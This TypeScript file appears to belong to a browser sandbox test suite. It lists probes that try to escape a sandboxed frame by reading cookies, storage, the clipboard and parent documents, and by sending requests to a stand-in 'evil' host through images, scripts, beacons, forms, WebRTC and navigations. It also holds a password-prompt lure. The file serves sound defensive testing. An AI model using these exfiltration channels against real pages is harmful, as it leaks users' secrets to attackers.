import { fail, got, wait, type Probe } from './probe.ts';

const append = (tag: string, attributes: Record<string, string>): Promise<void> => {
  document.documentElement.append(Object.assign(document.createElement(tag), attributes));
  return wait();
};
const link = (rel: string, href: string): Promise<void> => append('link', { rel, href });

/**
 * Ways out that a window has. Not among them, since the control cannot prove them: looking up a name (`dns-prefetch`), of
 * which nothing on loopback hears, opening a line ahead (`preconnect`), and loading ahead by `prerender` and speculation
 * rules, which this browser does not do for a frame.
 */
export const WINDOW_PROBES: Readonly<Record<string, Probe>> = {
  parentDom: { realm: 'window', proof: 'got', run: () => got(parent.document.title) },
  cookie: {
    realm: 'window',
    proof: 'got',
    run: () => got(document.cookie.match(/HOSTSECRET/)?.[0] ?? fail()),
  },
  localStorage: { realm: 'window', proof: 'got', run: () => got(localStorage.length) },
  image: { realm: 'window', proof: 'hit', run: ({ evil }) => append('img', { src: `${evil}/img?leak=1` }) },
  script: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('script', { src: `${evil}/script.js` }),
  },
  stylesheet: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
  },
  preload: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('link', { rel: 'preload', as: 'script', href: `${evil}/preload.js` }),
  },
  beacon: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => (navigator.sendBeacon(`${evil}/beacon`, 'x'), wait()),
  },
  frame: { realm: 'window', proof: 'hit', run: ({ evil }) => append('iframe', { src: `${evil}/frame` }) },
  nestedDocument: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => append('iframe', { srcdoc: `<img src="${evil}/nested-document">` }),
  },
  webRtc: {
    realm: 'window',
    proof: 'hit',
    run: async ({ udpPort }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await wait(1_000);
    },
  },
  topDom: { realm: 'window', proof: 'got', run: () => got(top?.document.title) },
  sessionStorage: { realm: 'window', proof: 'got', run: () => got(sessionStorage.length) },
  prefetch: { realm: 'window', proof: 'hit', run: ({ evil }) => link('prefetch', `${evil}/prefetch`) },
  modulePreload: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => link('modulepreload', `${evil}/module-preload.js`),
  },
  popup: {
    realm: 'window',
    proof: 'hit',
    run: ({ evil }) => (open(`${evil}/popup`), wait()),
  },
  form: {
    realm: 'window',
    proof: 'hit',
    run: async ({ evil }) => {
      const form = Object.assign(document.createElement('form'), {
        action: `${evil}/form`,
        target: '_blank',
      });
      document.documentElement.append(form);
      form.submit();
      await wait();
    },
  },
  download: {
    realm: 'window',
    proof: 'seen',
    run: async () => {
      const anchor = document.createElement('a');
      anchor.href = URL.createObjectURL(new Blob(['run me']));
      anchor.download = 'run-me.txt';
      document.documentElement.append(anchor);
      anchor.click();
      await wait();
    },
  },
  confirm: { realm: 'window', proof: 'seen', run: () => confirm('Your password, please?') },
  clipboard: {
    realm: 'window',
    proof: 'got',
    run: () => (focus(), got(navigator.clipboard.readText())),
  },
  geolocation: {
    realm: 'window',
    proof: 'got',
    run: () =>
      new Promise((resolve, reject) => {
        navigator.geolocation.getCurrentPosition(({ coords }) => {
          resolve(`GOT ${coords.latitude}`);
        }, reject);
      }),
  },
  serviceWorker: {
    realm: 'window',
    proof: 'got',
    run: ({ host }) => got(navigator.serviceWorker.register(`${host}/page.js`)),
  },
  selfNavigation: {
    realm: 'window',
    proof: 'hit',
    destroys: true,
    run: ({ evil }) => {
      location.href = `${evil}/navigation?leak=1`;
    },
  },
  metaRefresh: {
    realm: 'window',
    proof: 'hit',
    destroys: true,
    run: ({ evil }) => append('meta', { httpEquiv: 'refresh', content: `0;url=${evil}/meta` }),
  },
  topNavigation: {
    realm: 'window',
    proof: 'hit',
    destroys: true,
    run: ({ evil }) => {
      if (top) top.location.href = `${evil}/top`;
      return wait();
    },
  },
};
